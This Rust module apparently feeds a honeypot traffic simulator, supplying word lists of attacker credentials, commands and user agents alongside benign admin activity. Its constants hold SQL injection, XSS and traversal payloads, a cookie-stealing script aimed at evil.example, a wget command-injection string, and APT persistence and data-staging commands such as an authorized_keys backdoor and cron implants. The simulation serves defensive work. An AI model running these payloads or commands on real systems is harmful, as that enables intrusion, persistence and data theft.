//! What the simulated actors type and send: word lists extracted from the real Cowrie logs
//! (`fixtures/simulator/`, compiled in), and small hand-written lists for the benign and
//! APT behaviour that honeypot logs cannot show.

use rand::RngExt;
use rand_chacha::ChaCha8Rng;

/// Usernames tried on the Cowrie honeypots, most frequent first.
const USERNAMES: &str = include_str!("../../../../fixtures/simulator/usernames.txt");
/// Passwords tried on the Cowrie honeypots, most frequent first.
const PASSWORDS: &str = include_str!("../../../../fixtures/simulator/passwords.txt");
/// Commands typed in Cowrie sessions, most frequent first.
const COMMANDS: &str = include_str!("../../../../fixtures/simulator/commands.txt");
/// SSH client version strings seen by Cowrie, most frequent first.
const CLIENTS: &str = include_str!("../../../../fixtures/simulator/clients.txt");

/// The Cowrie word lists, with the bot commands sorted into the steps of a dropper script.
pub(super) struct Vocab {
    pub(super) usernames: Vec<&'static str>,
    pub(super) passwords: Vec<&'static str>,
    pub(super) clients: Vec<&'static str>,
    /// System probes (`uname -a`, `cat /proc/cpuinfo`, the `.nippon` write tests, ...).
    pub(super) probe: Vec<&'static str>,
    /// Hiding tracks and disabling firewalls (`unset HISTFILE`, `iptables stop`, ...).
    pub(super) stealth: Vec<&'static str>,
    /// Fetching a payload (`wget`, `curl`).
    pub(super) fetch: Vec<&'static str>,
    /// Making it executable and running it (`chmod`, `./x`, `nohup`).
    pub(super) exec: Vec<&'static str>,
    /// Surviving a reboot (`rc.local`).
    pub(super) persist: Vec<&'static str>,
}

fn lines(text: &'static str) -> Vec<&'static str> {
    text.lines().map(str::trim).filter(|l| !l.is_empty()).collect()
}

impl Vocab {
    pub(super) fn new() -> Self {
        let mut v = Self {
            usernames: lines(USERNAMES),
            passwords: lines(PASSWORDS),
            clients: lines(CLIENTS),
            probe: Vec::new(),
            stealth: Vec::new(),
            fetch: Vec::new(),
            exec: Vec::new(),
            persist: Vec::new(),
        };
        for c in lines(COMMANDS) {
            let has = |words: &[&str]| words.iter().any(|w| c.contains(w));
            let bucket = if has(&["rc.local"]) {
                &mut v.persist
            } else if has(&["wget ", "curl ", "tftp "]) {
                &mut v.fetch
            } else if has(&["HIST", "/var/log", "iptables", "SuSEfirewall2"]) {
                &mut v.stealth
            } else if c.starts_with("./") || has(&["chmod", "nohup", "/tmp/./", "/tmp/su"]) {
                &mut v.exec
            } else {
                &mut v.probe
            };
            bucket.push(c);
        }
        v
    }
}

/// An item of a list ordered most frequent first, skewed towards the head as real
/// credential lists are (index = ⌊len·u³⌋).
pub(super) fn skewed<'a>(rng: &mut ChaCha8Rng, list: &[&'a str]) -> &'a str {
    let u: f64 = rng.random();
    list[((list.len() as f64) * u * u * u) as usize % list.len()]
}

/// The URLs a command downloads from (`http://`, `ftp://`), in order.
pub(super) fn urls_in(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c: char| c.is_whitespace() || c == ';')
        .filter(|w| w.starts_with("http://") || w.starts_with("ftp://"))
}

/// Browser User-Agents (benign visitors, and attackers who pretend to be one).
pub(super) const BROWSERS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.181 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/11.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:60.0) Gecko/20100101 Firefox/60.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.139 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/11.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 8.0.0; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.158 Mobile Safari/537.36",
];

/// Tools' User-Agents: scanners, exploit kits, scripts.
pub(super) const TOOLS: [&str; 7] = [
    "sqlmap/1.2.4#stable (http://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.18.4",
    "curl/7.47.0",
    "Go-http-client/1.1",
    "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
];

/// Pages of the simulated shop (`shop.example.com`).
pub(super) const PAGES: [&str; 12] = [
    "/",
    "/index.html",
    "/products",
    "/products/1042",
    "/products/2210",
    "/cart",
    "/checkout",
    "/search?q=shoes",
    "/about",
    "/contact",
    "/blog/2018/05/spring-sale",
    "/account",
];

/// Static assets a page pulls in.
pub(super) const ASSETS: [&str; 8] = [
    "/static/css/site.css",
    "/static/js/app.js",
    "/static/js/vendor.js",
    "/static/img/logo.png",
    "/static/img/banner.jpg",
    "/static/fonts/roboto.woff2",
    "/favicon.ico",
    "/static/img/product-thumb.jpg",
];

/// Paths a scanner or an attacker probes.
pub(super) const PROBE_PATHS: [&str; 14] = [
    "/robots.txt",
    "/.git/config",
    "/.env",
    "/phpmyadmin/",
    "/admin",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/cgi-bin/test.cgi",
    "/backup.sql",
    "/config.php.bak",
    "/manager/html",
    "/shell.php",
    "/server-status",
];

/// Web-attack payloads, by technique, appended to a page's parameter.
pub(super) const SQLI: [&str; 8] = [
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1' AND SLEEP(5)--",
    "1) UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    "1' OR 1=1--",
    "1; DROP TABLE users--",
    "1' AND BENCHMARK(5000000,MD5(1))--",
    "1'; WAITFOR DELAY '0:0:5'--",
];

pub(super) const XSS: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "<body onload=alert('xss')>",
    "'><script>document.location='http://evil.example/c?'+document.cookie</script>",
];

pub(super) const TRAVERSAL: [&str; 5] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
];

pub(super) const INJECTION: [&str; 4] =
    [";cat /etc/passwd", "|id", "$(wget http://185.234.218.41/x.sh)", "`uname -a`"];

/// Commands a benign administrator types.
pub(super) const ADMIN_COMMANDS: [&str; 18] = [
    "ls -la",
    "cd /var/www/shop",
    "git pull",
    "systemctl status nginx",
    "sudo systemctl restart nginx",
    "tail -n 100 /var/log/nginx/error.log",
    "df -h",
    "free -m",
    "docker ps",
    "docker logs --tail 50 shop-api",
    "vim /etc/nginx/sites-available/shop",
    "journalctl -u shop-api --since today",
    "du -sh /var/log",
    "htop",
    "uptime",
    "sudo apt-get update",
    "crontab -l",
    "exit",
];

/// An intruder's first look around.
pub(super) const APT_RECON: [&str; 14] = [
    "whoami",
    "id",
    "uname -a",
    "cat /etc/passwd",
    "netstat -antp",
    "ps aux",
    "ip a",
    "cat /etc/hosts",
    "last -n 20",
    "arp -a",
    "ls -la /home",
    "find / -name '*.pem' 2>/dev/null",
    "cat ~/.bash_history",
    "sudo -l",
];

/// Quiet recon that reads like administration.
pub(super) const APT_QUIET: [&str; 8] = [
    "ls -la",
    "cat /etc/hosts",
    "df -h",
    "ls /srv/backups",
    "cat /etc/nginx/sites-available/shop",
    "docker ps",
    "uptime",
    "history | tail",
];

/// Staying in.
pub(super) const APT_PERSIST: [&str; 4] = [
    "(crontab -l; echo '*/30 * * * * /var/tmp/.cache/upd >/dev/null 2>&1') | crontab -",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG0x6 ops@build' >> ~/.ssh/authorized_keys",
    "chattr +i ~/.ssh/authorized_keys",
    "echo '/var/tmp/.cache/upd &' >> /etc/rc.local",
];

/// Staging data before taking it out.
pub(super) const APT_STAGE: [&str; 4] = [
    "tar czf /var/tmp/.cache/b.tgz /srv/backups",
    "mysqldump --all-databases > /var/tmp/.cache/d.sql",
    "split -b 20m /var/tmp/.cache/b.tgz /var/tmp/.cache/p_",
    "tar czf /tmp/logs.tgz /var/log/shop",
];

/// Hosts a proxy-abusing bot tunnels to through the honeypot (`direct-tcpip` targets seen
/// in the Cowrie logs: connectivity checks and mail relays).
pub(super) const TUNNEL_TARGETS: [(&str, u16, &str); 6] = [
    ("google.com", 80, "GET / HTTP/1.0"),
    ("yahoo.com", 80, "GET / HTTP/1.0"),
    ("yandex.ru", 80, "GET / HTTP/1.0"),
    ("httpbin.org", 80, "GET /ip HTTP/1.1"),
    ("193.252.22.86", 587, "EHLO test.com"),
    ("188.125.69.79", 25, "EHLO test.com"),
];

/// Well-known public services benign hosts talk to (search, code hosting, CDNs, mail).
pub(super) const SAAS: [&str; 10] = [
    "142.250.185.78",
    "140.82.121.4",
    "13.107.42.14",
    "151.101.1.69",
    "104.16.132.229",
    "52.84.150.39",
    "157.240.20.35",
    "17.253.144.10",
    "185.199.108.153",
    "34.107.221.82",
];

/// Ports a scanner tries first (nmap's top ports, in its order).
pub(super) const TOP_PORTS: [u16; 30] = [
    80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993,
    5900, 1025, 587, 8888, 199, 1720, 465, 548, 113, 81, 6001,
];

/// TCP ports Internet-wide scanners probe most, as the public scan reports describe the
/// background radiation: Telnet and its alternates (IoT botnets), SMB, SSH, web, RDP,
/// databases, Android debug, TR-069 and router exploits, Docker and caches.
pub(super) const SCANNED_TCP: [u16; 30] = [
    23, 445, 22, 80, 8080, 2323, 3389, 1433, 443, 81, 5555, 8443, 3306, 6379, 7547, 37215, 52869,
    8000, 8888, 5900, 21, 25, 135, 139, 9200, 27017, 5432, 11211, 2375, 60001,
];

/// UDP ports scanners probe most (SIP, DNS, NTP, SNMP, SSDP, NetBIOS, CLDAP, memcached,
/// chargen, WS-Discovery): amplification hunting.
pub(super) const SCANNED_UDP: [u16; 10] = [5060, 53, 123, 161, 1900, 137, 389, 11211, 19, 3702];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_are_extracted_and_every_dropper_step_has_commands() {
        let v = Vocab::new();
        assert_eq!(v.usernames[..3], ["root", "admin", "test"]);
        assert_eq!(v.passwords[0], "root");
        assert!(v.clients.iter().all(|c| c.starts_with("SSH-")));
        for (name, list) in [
            ("probe", &v.probe),
            ("stealth", &v.stealth),
            ("fetch", &v.fetch),
            ("exec", &v.exec),
            ("persist", &v.persist),
        ] {
            assert!(!list.is_empty(), "{name}");
        }
        assert!(v.fetch.iter().all(|c| urls_in(c).next().is_some()), "{:?}", v.fetch);
        let total =
            v.probe.len() + v.stealth.len() + v.fetch.len() + v.exec.len() + v.persist.len();
        assert_eq!(total, COMMANDS.lines().count());
    }
}
